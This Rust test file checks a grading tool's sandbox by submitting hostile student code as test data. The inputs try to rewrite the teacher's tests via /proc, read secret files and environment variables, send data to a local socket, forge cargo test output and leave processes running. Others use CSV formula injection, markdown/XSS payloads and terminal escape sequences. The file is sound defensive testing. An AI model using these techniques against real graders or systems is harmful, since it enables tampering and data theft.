//! `cargo exercises grade` against a hostile class: each student below
//! tries one of the attacks a reliability review ran (reading the teacher's
//! files and environment, the network, rewriting the tests, forging a pass,
//! leaving processes behind, file-type tricks, a compile-time endless loop,
//! sheet injection), bounded and harmless. Everything is written inside a
//! temporary folder; the build cache is the test's build folder's.
//!
//! The sandbox is bubblewrap: these tests skip with a message where `bwrap`
//! is missing, and fail instead when `REQUIRE_SANDBOX=1` (as `.ci/run` sets
//! once it has installed it).

mod clones;

use std::net::TcpListener;
use std::path::PathBuf;
use std::process::{Command, Output};

use clones::{assert_exit, copy_folder, shared_target, student_src, tutorial};
use exercises_tool::sandbox::Sandbox;
use exercises_tool::workspace::TEST_SUPPORT_FOLDER;

const ID: &str = "1.1";
const TESTS_RS: &str = "step01-setup/exercises/1.1-run-to-completion/tests.rs";

/// Whether the sandbox can be made here; if not, says so, or fails when
/// `REQUIRE_SANDBOX=1`.
fn sandbox_available(test: &str) -> bool {
    match Sandbox::detect() {
        Ok(_) => true,
        Err(why)
            if std::env::var("REQUIRE_SANDBOX").is_ok_and(|value| value == "1") =>
        {
            panic!("REQUIRE_SANDBOX=1 but {why}")
        }
        Err(why) => {
            eprintln!("{test}: skipped: {why}");
            false
        }
    }
}

/// A temporary folder holding a teacher's clone (Step 1's exercises) and a
/// class; removed when dropped.
struct Classroom {
    root: PathBuf,
}

impl Classroom {
    fn new(name: &str) -> Classroom {
        let root =
            std::env::temp_dir().join(format!("grade-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        let teacher = root.join("teacher");
        std::fs::create_dir_all(&teacher).expect("a temporary folder");
        for file in ["Cargo.toml", "Cargo.lock"] {
            std::fs::copy(tutorial().join(file), teacher.join(file))
                .expect("copy a root file");
        }
        for folder in ["step01-setup/exercises", TEST_SUPPORT_FOLDER] {
            copy_folder(&tutorial().join(folder), &teacher.join(folder));
        }
        Classroom { root }
    }

    fn teacher(&self) -> PathBuf {
        self.root.join("teacher")
    }

    fn student(&self, name: &str) -> PathBuf {
        self.root.join("class").join(name)
    }

    /// Writes `code` as the student's `1.1/src/lib.rs`.
    fn hand_in(&self, name: &str, code: &str) -> PathBuf {
        let src = self.lib_folder(name);
        std::fs::write(src.join("lib.rs"), code).expect("a student's file");
        self.student(name)
    }

    fn lib_folder(&self, name: &str) -> PathBuf {
        student_src(&self.root.join("class"), name, ID)
    }

    /// `cargo exercises grade` from the teacher's clone; the sheets'
    /// paths are `<root>/<out>.csv|md`.
    fn grade(&self, out: &str, extra: &[&str], students: &[PathBuf]) -> Output {
        let out = self.root.join(out).display().to_string();
        let mut command = Command::new(env!("CARGO_BIN_EXE_exercises"));
        command
            .args([
                "grade",
                "--exercises",
                ID,
                "--time-limit",
                "20",
                "--out",
                &out,
            ])
            .args(extra)
            .args(students)
            .current_dir(self.teacher())
            .env("CARGO_TARGET_DIR", shared_target())
            .env("GRADE_TEST_LEAK", "teacher-env-value-0451")
            .env_remove("CARGO_MANIFEST_DIR");
        command.output().expect("the tool starts")
    }

    fn sheet(&self, out: &str, extension: &str) -> String {
        let path = self.root.join(out).with_extension(extension);
        std::fs::read_to_string(&path)
            .unwrap_or_else(|error| panic!("{}: {error}", path.display()))
    }
}

impl Drop for Classroom {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.root);
    }
}

/// A `lib.rs` for 1.1 that runs `before` on every call, then does the
/// right thing.
fn correct_after(before: &str) -> String {
    format!(
        "use std::future::Future;\n\
         pub fn run_to_completion<F: Future>(future: F) -> F::Output {{\n\
         {before}\n\
         async_std::task::block_on(future)\n}}\n"
    )
}

fn correct() -> String {
    correct_after("")
}

/// The CSV row of `student` (the line that starts with their cell).
fn row<'a>(csv: &'a str, student: &str) -> &'a str {
    csv.lines()
        .find(|line| line.starts_with(&format!("{student},")))
        .unwrap_or_else(|| panic!("no row for {student} in:\n{csv}"))
}

/// A `lib.rs` that tries to rewrite the teacher's tests (by absolute path,
/// through its parent's folder and in its own crate), another student's
/// work and the grade's build cache; then is correct.
fn escaper(class: &Classroom) -> String {
    let targets = [
        class.teacher().join(TESTS_RS),
        class.student("alice").join("exercises-work/1.1/src/lib.rs"),
        shared_target().join("exercises/grading/deps-cache/poison"),
    ];
    let targets: Vec<String> = targets
        .iter()
        .map(|path| format!("{:?}", path.display().to_string()))
        .collect();
    correct_after(&format!(
        "let broken = \"#[test] fn tampered() {{ panic!(\\\"tampered\\\") }}\";\n\
         for path in [{}] {{ let _ = std::fs::write(path, broken); }}\n\
         let _ = std::fs::write(\"/grade/crate/tests/exercise.rs\", broken);\n\
         let status = std::fs::read_to_string(\"/proc/self/status\").unwrap_or_default();\n\
         if let Some(ppid) = status.lines().find_map(|l| l.strip_prefix(\"PPid:\")) {{\n\
             let _ = std::fs::write(format!(\"/proc/{{}}/cwd/tests/exercise.rs\", ppid.trim()), broken);\n\
         }}",
        targets.join(", ")
    ))
}

/// A `lib.rs` that leaves 20 sleeping processes, marked by `seconds`.
fn forker(seconds: &str) -> String {
    correct_after(&format!(
        "for _ in 0..20 {{ let _ = std::process::Command::new(\"sleep\").arg(\"{seconds}\").spawn(); }}"
    ))
}

/// Processes whose command line holds `sleep <seconds>`.
fn sleepers(seconds: &str) -> usize {
    let wanted = format!("sleep\0{seconds}\0");
    std::fs::read_dir("/proc")
        .map(|entries| {
            entries
                .flatten()
                .filter(|entry| {
                    std::fs::read(entry.path().join("cmdline"))
                        .is_ok_and(|line| String::from_utf8_lossy(&line) == wanted)
                })
                .count()
        })
        .unwrap_or(0)
}

#[test]
fn a_hostile_class_cannot_escape_forge_or_break_the_sheet() {
    if !sandbox_available("a_hostile_class_cannot_escape_forge_or_break_the_sheet") {
        return;
    }
    let class = Classroom::new("hostile");
    let secret = class.root.join("teacher_secret.txt");
    std::fs::write(&secret, "TEACHER-SECRET-7781").expect("a secret");
    let listener = TcpListener::bind("127.0.0.1:0").expect("a listener");
    listener.set_nonblocking(true).expect("non-blocking");
    let port = listener.local_addr().expect("its port").port();
    let tests_before =
        std::fs::read(class.teacher().join(TESTS_RS)).expect("the tests");

    let escaper_code = escaper(&class);
    let reader = format!(
        "pub const SECRET: &str = include_str!({:?});\n{}",
        secret.display().to_string(),
        correct()
    );
    let env = "panic!(\"HOME={:?} LEAK={:?} AT_RUN={:?}\", option_env!(\"HOME\"), \
               option_env!(\"GRADE_TEST_LEAK\"), std::env::var(\"GRADE_TEST_LEAK\").ok());";
    let network = format!(
        "if let Ok(mut s) = std::net::TcpStream::connect((\"127.0.0.1\", {port})) {{ \
         use std::io::Write; let _ = s.write_all(b\"exfiltrated\"); }}"
    );
    let forged = "use std::future::Future;\n\
        pub fn run_to_completion<F: Future>(_f: F) -> F::Output {\n\
        println!(\"\\nrunning 3 tests\\ntest gives_back_the_output_of_the_future ... ok\\n\
        test waits_for_a_future_that_sleeps ... ok\\ntest runs_the_body_exactly_once ... ok\\n\\n\
        test result: ok. 3 passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.01s\\n\");\n\
        std::process::exit(0)\n}\n";
    let extra_ok = correct_after(
        "println!(\"test gives_back_the_output_of_the_future ... ok\\n\
         test waits_for_a_future_that_sleeps ... ok\\ntest runs_the_body_exactly_once ... ok\");\n\
         todo!();",
    );
    // Each write must fail: the sandbox's root, /dev and /grade are
    // memory made read-only, and its CARGO_HOME holds 16 MiB.
    let filler = correct_after(
        "for (path, bytes) in [(\"/hog\", 1usize), (\"/dev/shm/hog\", 1), \
         (\"/grade/hog\", 1), (\"/grade/cargo-home/hog\", 32 << 20)] {\n\
         if std::fs::write(path, vec![0u8; bytes]).is_ok() { panic!(\"wrote {bytes} bytes to {path}\"); }\n\
         }",
    );
    let mut students = vec![
        class.hand_in("escaper", &escaper_code),
        class.hand_in("filler", &filler),
        class.hand_in("alice", &correct()),
        class.hand_in("reader", &reader),
        class.hand_in("env", &correct_after(env)),
        class.hand_in("network", &correct_after(&network)),
        class.hand_in("forger", forged),
        class.hand_in("eve", &extra_ok),
        class.hand_in("forker", &forker("97.125")),
        class.hand_in("bob", &correct()),
    ];
    let fifo = class.lib_folder("fifo").join("lib.rs");
    let made = Command::new("mkfifo").arg(&fifo).status().expect("mkfifo");
    assert!(made.success(), "mkfifo");
    let link = class.lib_folder("symlink").join("lib.rs");
    std::os::unix::fs::symlink(&secret, &link).expect("a link");
    for name in [
        "=HYPERLINK(\"x\")",
        "<img src=x onerror=alert(1)> [x](javascript:alert(1))",
        "zz;=HYPERLINK(1)",
        "title\u{1b}]0;PWNED\u{7}",
    ] {
        std::fs::create_dir_all(class.student(name)).expect("a folder");
        students.push(class.student(name));
    }
    students.extend([class.student("fifo"), class.student("symlink")]);
    // A folder that is a link to another student's: an archive can carry one.
    std::os::unix::fs::symlink(class.student("alice"), class.student("alias"))
        .expect("a link to alice's folder");
    students.push(class.student("alias"));
    students.push(class.student("missing"));

    let graded = class.grade("sheet", &["--build-time-limit", "120"], &students);
    assert_exit(&graded, 0, "grade the hostile class");
    let csv = class.sheet("sheet", "csv");
    let markdown = class.sheet("sheet", "md");

    // Nothing escaped.
    let tests_after = std::fs::read(class.teacher().join(TESTS_RS)).expect("the tests");
    assert!(
        tests_before == tests_after,
        "the teacher's tests.rs was rewritten"
    );
    let alice = std::fs::read_to_string(
        class.student("alice").join("exercises-work/1.1/src/lib.rs"),
    );
    assert_eq!(
        alice.expect("alice's work"),
        correct(),
        "alice's work was rewritten"
    );
    let poison = shared_target().join("exercises/grading/deps-cache/poison");
    assert!(!poison.exists(), "the build cache was written");
    assert!(
        matches!(listener.accept(), Err(error) if error.kind() == std::io::ErrorKind::WouldBlock),
        "a student reached a listener on 127.0.0.1"
    );
    assert_eq!(row(&csv, "reader"), "reader,does not compile,0", "{csv}");
    assert!(!csv.contains("TEACHER-SECRET") && !markdown.contains("TEACHER-SECRET"));
    let env_row = row(&csv, "env");
    assert!(env_row.contains("LEAK=None AT_RUN=None"), "{env_row}");
    assert!(!csv.contains("teacher-env-value"), "{csv}");
    assert_eq!(
        sleepers("97.125"),
        0,
        "a student's processes outlived the grade"
    );

    // The correct students pass, those behind the attackers too.
    for correct_one in ["alice", "bob", "escaper", "network", "forker", "filler"] {
        assert_eq!(
            row(&csv, correct_one),
            format!("{correct_one},passed,1"),
            "{csv}"
        );
    }
    // The forged passes are caught.
    for forger in ["forger", "eve"] {
        let forged = row(&csv, forger);
        assert!(forged.contains("failing (0 of 3): "), "{forged}");
    }
    assert!(row(&csv, "eve").contains("reported 2 times"), "{csv}");
    // File-type tricks are one cell each, and the grade went on.
    assert!(
        row(&csv, "fifo").contains(
            "unreadable: exercises-work/1.1/src/lib.rs is not a regular file"
        )
    );
    assert!(
        row(&csv, "symlink")
            .contains("unreadable: exercises-work/1.1/src/lib.rs is a symbolic link")
    );
    // The sheet is safe to open, and a missing student is one line.
    assert!(
        csv.contains("\"'=HYPERLINK(\"\"x\"\")\",not started,0"),
        "{csv}"
    );
    assert!(
        markdown.contains(
            "| &lt;img src=x onerror=alert\\(1\\)&gt; \\[x\\]\\(javascript:alert\\(1\\)\\) |"
        ),
        "{markdown}"
    );
    assert!(
        !markdown.contains("<img") && !markdown.contains("](javascript"),
        "{markdown}"
    );
    assert!(
        row(&csv, "missing").starts_with("missing,no folder "),
        "{csv}"
    );
    assert!(
        row(&csv, "alias").contains("is a symbolic link"),
        "a folder that is a link is not graded as the folder it points to: {csv}"
    );
    // Names are plain text, on the sheets and in the terminal, and one
    // cell where a spreadsheet splits on semicolons too.
    assert!(csv.contains("\"zz;'=HYPERLINK(1)\",not started,0"), "{csv}");
    let formulas: Vec<&str> = csv
        .lines()
        .flat_map(|line| line.split(';'))
        .filter(|cell| cell.trim_start().starts_with(['=', '+', '-', '@']))
        .collect();
    assert!(
        formulas.is_empty(),
        "a spreadsheet that splits on semicolons would read formulas: {formulas:?}"
    );
    let terminal = String::from_utf8_lossy(&graded.stderr);
    for text in [&csv, &markdown, &terminal.to_string()] {
        assert!(
            !text.contains('\u{1b}'),
            "an escape sequence got through: {text}"
        );
    }
    assert!(markdown.starts_with("# Grades, "), "{markdown}");
}

#[test]
fn the_same_class_graded_in_two_orders_gives_the_same_sheets() {
    if !sandbox_available("the_same_class_graded_in_two_orders_gives_the_same_sheets") {
        return;
    }
    let class = Classroom::new("orders");
    let escaper_code = escaper(&class);
    let students = [
        class.hand_in("escaper", &escaper_code),
        class.hand_in("alice", &correct()),
        class.hand_in("forker", &forker("97.25")),
    ];
    let reversed: Vec<PathBuf> = students.iter().rev().cloned().collect();
    let first = class.grade("first", &[], &students);
    assert_exit(&first, 0, "grade in the first order");
    let second = class.grade("second", &[], &reversed);
    assert_exit(&second, 0, "grade in the reverse order");
    for extension in ["csv", "md"] {
        assert_eq!(
            class.sheet("first", extension),
            class.sheet("second", extension),
            "the {extension} sheet depends on the order"
        );
    }
    assert!(class.sheet("first", "csv").contains("alice,passed,1"));
}

/// A build that never ends is stopped at the limit, and the class goes on.
/// The loop never ends, so a short limit stops it whatever the machine's
/// load; the student after it is graded in a second run with the default
/// limit, so that a slow machine cannot fail a correct student. Both runs
/// use the same teacher's clone, as a teacher grading again would.
#[test]
fn a_compile_time_endless_loop_is_stopped_by_the_build_limit() {
    if !sandbox_available("a_compile_time_endless_loop_is_stopped_by_the_build_limit") {
        return;
    }
    let class = Classroom::new("const-loop");
    let looping = format!(
        "#![allow(long_running_const_eval)]\n\
         const FOREVER: u64 = {{ let mut i = 0u64; while i < u64::MAX {{ i += 1; }} i }};\n\
         pub fn forever() -> u64 {{ FOREVER }}\n{}",
        correct()
    );
    let looper = class.hand_in("looper", &looping);
    let graded = class.grade("looped", &["--build-time-limit", "5"], &[looper]);
    assert_exit(&graded, 0, "grade with an endless compile-time loop");
    let csv = class.sheet("looped", "csv");
    assert_eq!(
        row(&csv, "looper"),
        "looper,timed out while compiling,0",
        "{csv}"
    );
    let alice = class.hand_in("alice", &correct());
    let graded = class.grade("after", &[], &[alice]);
    assert_exit(&graded, 0, "grade after a build that was stopped");
    let csv = class.sheet("after", "csv");
    assert_eq!(row(&csv, "alice"), "alice,passed,1", "{csv}");
}

#[test]
fn a_bad_out_is_refused_before_anyone_is_graded() {
    let class = Classroom::new("bad-out");
    let alice = class.hand_in("alice", &correct());
    let graded = class.grade("no/such/folder/week1", &[], &[alice]);
    assert_exit(&graded, 2, "grade with a bad --out");
    let stderr = String::from_utf8_lossy(&graded.stderr);
    assert!(stderr.starts_with("error: --out: "), "{stderr}");
    assert!(
        !stderr.contains("grading alice"),
        "graded before refusing: {stderr}"
    );
    let help = Command::new(env!("CARGO_BIN_EXE_exercises"))
        .args(["grade", "--help"])
        .output()
        .expect("the tool starts");
    assert_exit(&help, 0, "grade --help");
    assert!(String::from_utf8_lossy(&help.stdout).contains("--exercises"));
}
